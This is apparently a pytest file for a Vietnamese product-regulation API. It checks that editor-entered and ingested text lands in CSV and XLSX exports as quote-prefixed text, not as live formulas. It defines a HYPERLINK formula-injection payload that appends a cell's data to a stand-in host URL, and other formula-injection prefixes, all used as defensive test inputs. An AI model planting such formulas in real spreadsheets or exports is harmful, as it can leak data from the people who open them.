"""Exports never turn text into live formulas: editors' and ingested text in the checklist
(CSV, XLSX), the change feed workbook and the report workbooks."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlmodel import Session

from api.services import checklist
from catalog.applicability import applicable
from ingest.jobs import ingest

EXFIL = '=HYPERLINK("http://127.0.0.1:1/x?"&A2,"Bấm để xem")'
HOSTILE = (EXFIL, "=1+2", "@SUM(1,1)", "+1", "-1+2")


def formula_free_strings(xlsx: bytes) -> dict[str, bool]:
    """Every text cell of the workbook with its quote-prefix style, after checking that no
    sheet holds a formula, in the file itself and as openpyxl reads it back."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    texts: dict[str, bool] = {}
    for sheet in load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = texts.get(cell.value, False) or cell.quotePrefix
    return texts


def assert_shown_as_text(xlsx: bytes, *values: str) -> None:
    texts = formula_free_strings(xlsx)
    for value in values:
        assert texts.get(value) is True, value  # kept, and quote-prefixed


def csv_cells(body: bytes) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row}


def test_editors_text_reaches_exports_as_text(client, catalog):
    editor = {"X-API-Key": catalog.keys["editor"]}
    product = client.post(
        "/api/v1/products",
        json={
            "name_vi": EXFIL,
            "name_en": "-1+2",
            "kind": "ocop",
            "category": "trai-cay",
            "locality": "district-ham-yen",  # so that the province's draft QCĐP applies
        },
        headers=editor,
    )
    assert product.status_code == 201, product.text
    slug = product.json()["slug"]
    draft = client.post(
        "/api/v1/drafts",
        json={"code": "QCĐP 91:2026/TQ", "title_vi": "=1+2", "issuer": "UBND-TQ"},
        headers=editor,
    )
    assert draft.status_code == 201, draft.text
    rule = client.post(
        "/api/v1/rules",
        json={
            "subject_kind": "product",
            "subject": slug,
            "document": "QCĐP 91:2026/TQ",
            "role": "mandatory_regulation",
            "condition": "@SUM(1,1)",
            "legal_basis": "+1",
        },
        headers=editor,
    )
    assert rule.status_code == 201, rule.text

    xlsx = client.get(f"/api/v1/products/{slug}/checklist.xlsx")
    assert xlsx.status_code == 200
    assert_shown_as_text(xlsx.content, f"{EXFIL} (-1+2)", "=1+2", "@SUM(1,1)", "+1")
    texts = formula_free_strings(xlsx.content)
    assert texts["QCVN 8-2:2011/BYT"] is False  # ordinary codes are left alone
    assert texts["QCĐP 91:2026/TQ"] is False

    cells = csv_cells(client.get(f"/api/v1/products/{slug}/checklist.csv").content)
    for value in (f"{EXFIL} (-1+2)", "=1+2", "@SUM(1,1)", "+1"):
        assert "'" + value in cells and value not in cells
    assert "QCVN 8-2:2011/BYT" in cells

    changes = client.get("/api/v1/changes.xlsx", params={"since": "2000-01-01T00:00:00Z"})
    assert changes.status_code == 200
    assert_shown_as_text(changes.content, "=1+2")

    impact = client.post(
        "/api/v1/reports/draft-impact.xlsx",
        json={
            "code": "QCĐP 92:2026/TQ",
            "title": "@SUM(1,1)",
            "scope": [{"kind": "product", "subject": slug}],
        },
    )
    assert impact.status_code == 200, impact.text
    assert_shown_as_text(impact.content, EXFIL)
    gaps = client.get("/api/v1/reports/gaps.xlsx")
    assert gaps.status_code == 200
    formula_free_strings(gaps.content)


def test_ingested_sheet_cell_reaches_the_checklist_as_text(engine, catalog, tmp_path: Path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Mã sản phẩm", "Tên sản phẩm", "Loại", "Nhóm sản phẩm", "Mã HS"])
    sheet.append(["hyperlink", None, "Chỉ dẫn địa lý", "trai-cay", "0805 (080510)"])
    sheet["B2"].value = EXFIL
    sheet["B2"].data_type = "s"  # typed as text in the sheet, as a spreadsheet user would
    book.save(tmp_path / "products.xlsx")
    summary = ingest(engine, "products", origin=tmp_path / "products.xlsx")
    assert (summary.new, summary.rejected) == (1, 0), summary.line()
    with Session(engine) as session:
        answer = applicable(session, "hyperlink")
    assert answer.product.name_vi == EXFIL
    assert answer.entries  # the HS rule and the category's rules apply
    assert_shown_as_text(checklist.to_xlsx(answer), EXFIL)
    cells = csv_cells(checklist.to_csv(answer))
    assert "'" + EXFIL in cells and EXFIL not in cells
